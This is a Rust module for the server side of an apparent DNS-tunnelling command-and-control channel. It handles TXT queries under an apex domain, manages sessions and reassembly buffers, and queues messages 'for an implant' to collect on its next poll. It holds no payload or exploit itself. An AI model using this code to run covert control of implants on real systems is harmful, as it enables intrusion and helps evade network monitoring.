//! The tunnel: one object owning every piece of server-side state.
//!
//! The send-block store, reassembly buffer, and session registry live here
//! (never as process globals) and are reached through an `Arc<Tunnel>` shared
//! by the listener tasks, the sweep tasks, and the upper layer.

use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::time::Duration;

use anyhow::{anyhow, Context, Result};

use crate::codec;
use crate::config::Config;
use crate::crypto::ServerKeyPair;
use crate::listener;
use crate::pb::Envelope;
use crate::reassembly::ReassemblyBuffer;
use crate::router;
use crate::session::SessionRegistry;
use crate::store::SendBlockStore;
use crate::wire;

const SESSION_SWEEP_INTERVAL: Duration = Duration::from_secs(30);
const REASM_SWEEP_INTERVAL: Duration = Duration::from_secs(5);
const BLOCK_SWEEP_INTERVAL: Duration = Duration::from_secs(60);

pub struct Tunnel {
    config: Config,
    keypair: ServerKeyPair,
    store: SendBlockStore,
    reassembly: ReassemblyBuffer,
    sessions: SessionRegistry,
    shutdown: AtomicBool,
}

impl Tunnel {
    /// Validates the config and provisions the apex keypair. Either failure
    /// is fatal: a tunnel without a keypair cannot bootstrap sessions.
    pub fn new(config: Config) -> Result<Arc<Self>> {
        config.validate()?;
        let keypair = ServerKeyPair::generate(&config.rsa_keypair_name, config.rsa_bits)
            .context("apex keypair provisioning failed")?;
        Ok(Arc::new(Tunnel {
            store: SendBlockStore::new(config.block_chunk_bytes, config.block_ttl),
            reassembly: ReassemblyBuffer::new(config.reasm_idle),
            sessions: SessionRegistry::new(config.session_idle),
            keypair,
            config,
            shutdown: AtomicBool::new(false),
        }))
    }

    pub fn config(&self) -> &Config {
        &self.config
    }

    pub fn keypair(&self) -> &ServerKeyPair {
        &self.keypair
    }

    pub fn store(&self) -> &SendBlockStore {
        &self.store
    }

    pub fn reassembly(&self) -> &ReassemblyBuffer {
        &self.reassembly
    }

    pub fn sessions(&self) -> &SessionRegistry {
        &self.sessions
    }

    /// Answers one question: only TXT queries for strict subdomains of the
    /// apex carry semantics, everything else gets an empty answer.
    pub fn handle_query(&self, qname: &str, qtype: u16) -> Vec<String> {
        if qtype != wire::QTYPE_TXT {
            return Vec::new();
        }
        match codec::strip_apex(qname, &self.config.apex) {
            Some(subdomain) => {
                log::debug!("processing TXT query for subdomain '{}'", subdomain);
                self.handle_txt(&subdomain)
            }
            None => {
                log::debug!("ignoring query outside apex '{}'", self.config.apex);
                Vec::new()
            }
        }
    }

    /// Routes an already-stripped subdomain.
    pub fn handle_txt(&self, subdomain: &str) -> Vec<String> {
        router::route(self, subdomain)
    }

    /// Queues an envelope for an implant to collect on its next poll.
    pub fn send(&self, session_id: &str, envelope: Envelope) -> Result<()> {
        let session = self
            .sessions
            .lookup(session_id)
            .ok_or_else(|| anyhow!("unknown session {}", session_id))?;
        session.enqueue(envelope);
        Ok(())
    }

    /// Queues an envelope and waits for the reply carrying the same
    /// correlation ID.
    pub async fn request(&self, session_id: &str, envelope: Envelope) -> Result<Envelope> {
        let session = self
            .sessions
            .lookup(session_id)
            .ok_or_else(|| anyhow!("unknown session {}", session_id))?;
        let rx = session.register_waiter(&envelope.id);
        session.enqueue(envelope);
        rx.await
            .context("session closed before a reply arrived")
    }

    pub fn close_session(&self, session_id: &str) -> bool {
        self.sessions.close(session_id)
    }

    pub fn sweep_sessions(&self) -> usize {
        self.sessions.sweep()
    }

    pub fn sweep_reassembly(&self) -> usize {
        self.reassembly.sweep()
    }

    pub fn sweep_blocks(&self) -> usize {
        self.store.sweep()
    }

    /// Spawns the three idle sweeps. They run until shutdown, independently
    /// of any request handler.
    pub fn spawn_sweeps(self: &Arc<Self>) {
        spawn_sweep(self.clone(), SESSION_SWEEP_INTERVAL, "session", |t| {
            t.sweep_sessions()
        });
        spawn_sweep(self.clone(), REASM_SWEEP_INTERVAL, "reassembly", |t| {
            t.sweep_reassembly()
        });
        spawn_sweep(self.clone(), BLOCK_SWEEP_INTERVAL, "send block", |t| {
            t.sweep_blocks()
        });
    }

    pub fn shutdown(&self) {
        self.shutdown.store(true, Ordering::Relaxed);
    }

    pub fn is_shutdown(&self) -> bool {
        self.shutdown.load(Ordering::Relaxed)
    }
}

fn spawn_sweep(
    tunnel: Arc<Tunnel>,
    interval: Duration,
    what: &'static str,
    sweep: fn(&Tunnel) -> usize,
) {
    tokio::spawn(async move {
        let mut tick = tokio::time::interval(interval);
        loop {
            tick.tick().await;
            if tunnel.is_shutdown() {
                break;
            }
            let swept = sweep(&tunnel);
            if swept > 0 {
                log::debug!("{} sweep removed {} entries", what, swept);
            }
        }
    });
}

/// Builds a tunnel from the config and serves it until shutdown.
pub async fn run(config: Config) -> Result<()> {
    let tunnel = Tunnel::new(config)?;
    tunnel.spawn_sweeps();
    listener::serve(tunnel).await
}
